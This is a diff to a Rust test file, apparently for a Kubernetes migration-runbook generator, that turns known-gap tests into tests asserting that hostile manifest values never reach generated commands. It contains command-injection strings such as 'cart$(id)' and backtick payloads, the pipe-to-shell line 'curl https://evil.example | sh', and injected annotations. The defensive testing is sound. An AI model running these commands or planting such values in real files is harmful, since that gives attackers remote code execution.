@@ -691,9 +691,8 @@ fn kubeconfig_variable_must_be_a_shell_name() {
 /// Kubernetes' name rules". Fixed: no command contains any owner name of `hostile-values.yaml`
 /// and each such pod is a finding.
 #[test]
-fn gap_owner_reference_names_reach_commands_quoted() {
+fn owner_reference_names_never_reach_a_command() {
     let run = run_file("hostile-values.yaml");
-    let vars = run.vars();
     for owner in [
         "cart$(id)",
         "cart'x",
@@ -702,20 +701,13 @@ fn gap_owner_reference_names_reach_commands_quoted() {
         "cart\nx",
     ] {
         let found = run.commands_with(owner);
-        assert!(!found.is_empty(), "{owner:?} no longer reaches a command");
-        for command in run
-            .commands
-            .iter()
-            .filter(|c| c.argv(&vars).iter().any(|w| w.contains(owner)))
-        {
-            // Quoted: the hostile word is one argv word, never an expansion.
-            harness::check_command(command, &vars);
-        }
+        assert!(found.is_empty(), "{owner:?} reaches a command: {found:?}");
     }
     assert!(run
-        .commands_with("deployment/cart$(id)")
+        .analysis
+        .findings
         .iter()
-        .any(|c| c.ends_with(r#"rollout restart 'deployment/cart$(id)'"#)));
+        .any(|f| f.code.as_str() == "MIG006" && f.message.contains("its owner")));
 }
 
 /// GAP: the value of the `istio-injection` label on istio-system is not checked as a label
@@ -723,12 +715,12 @@ fn gap_owner_reference_names_reach_commands_quoted() {
 /// (quoted), and the step's text unescaped. Fixed: a value that is not a label value is a
 /// finding and the rollback uses no manifest text.
 #[test]
-fn gap_label_values_reach_commands_quoted() {
+fn invalid_label_values_never_reach_a_command() {
     let run = run_file("hostile-values.yaml");
     let found = run.commands_with("istio-injection=x'$(id)`id`\n```bash");
     assert!(
-        !found.is_empty(),
-        "the label value no longer reaches a command"
+        found.is_empty(),
+        "the label value reaches a command: {found:?}"
     );
 }
 
@@ -740,25 +732,18 @@ fn gap_label_values_reach_commands_quoted() {
 /// are not affected (every word quoted, JSON escaped). Fixed: `foreign_bash_lines()` is empty
 /// for `hostile-values.yaml`.
 #[test]
-fn gap_markdown_runbook_shows_foreign_bash_lines() {
+fn the_markdown_runbook_shows_no_foreign_bash_lines() {
     let run = run_file("hostile-values.yaml");
     let foreign = run.foreign_bash_lines();
-    assert!(
-        foreign
-            .iter()
-            .any(|l| l == "curl https://evil.example | sh"),
-        "{foreign:#?}"
-    );
-    assert!(foreign
-        .iter()
-        .any(|l| l == "curl https://evil.example/net | sh"));
-    // The bash runbook still parses into the plan's commands only: every hostile value in it is
-    // inside single quotes (checked by `bash -n` and the stub-kubectl run in tests/plan.rs).
+    assert!(foreign.is_empty(), "{foreign:#?}");
     for (name, text) in &run.outputs {
-        if name.starts_with("runbook.sh") {
-            assert!(!text
-                .lines()
-                .any(|l| l.trim() == "curl https://evil.example | sh"));
+        if name.starts_with("runbook") {
+            assert!(
+                !text
+                    .lines()
+                    .any(|l| l.trim().starts_with("curl https://evil.example")),
+                "{name}"
+            );
         }
     }
 }
@@ -806,7 +791,7 @@ fn gap_bidi_controls_pass_the_rbac_name_rule() {
 /// `evil.example/injected: "yes"` among the annotations and `nodePort: 30022` on the port.
 /// Fixed: both files are serialised from values, and the CLB id reads back unchanged.
 #[test]
-fn gap_ingress_files_take_manifest_text_unescaped() {
+fn ingress_files_take_no_manifest_text_they_cannot_hold() {
     let run = run_file("hostile-ingress-annotations.yaml");
     let file = |suffix: &str| {
         run.plans[0]
@@ -820,18 +805,15 @@ fn gap_ingress_files_take_manifest_text_unescaped() {
         serde_yaml::from_str(&file("-istiogateway.yaml")).expect("the IstioGateway parses");
     let annotations = &gateway["spec"]["serviceAnnotations"];
     let lb_id = "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-id";
-    assert_eq!(annotations[lb_id].as_str(), Some("lb-1"));
-    assert_eq!(annotations["evil.example/injected"].as_str(), Some("yes"));
-    assert_eq!(
-        gateway["spec"]["ports"][0]["nodePort"].as_u64(),
-        Some(30022)
-    );
+    // A CLB id that is not one is treated as unknown: a placeholder and a need, never pasted.
+    assert_eq!(annotations[lb_id].as_str(), Some("REPLACE-WITH-CLB-ID"));
+    assert!(annotations.get("evil.example/injected").is_none());
+    assert!(gateway["spec"]["ports"][0].get("nodePort").is_none());
     let patch: serde_yaml::Value =
         serde_yaml::from_str(&file("-service-patch.yaml")).expect("the patch parses");
-    assert_eq!(
-        patch["metadata"]["annotations"]["evil.example/injected"].as_str(),
-        Some("yes")
-    );
+    assert!(patch["metadata"]["annotations"]
+        .get("evil.example/injected")
+        .is_none());
 }
 
 /// GAP: `Command::render` trusts the kubeconfig variable names and `analyze` does not call
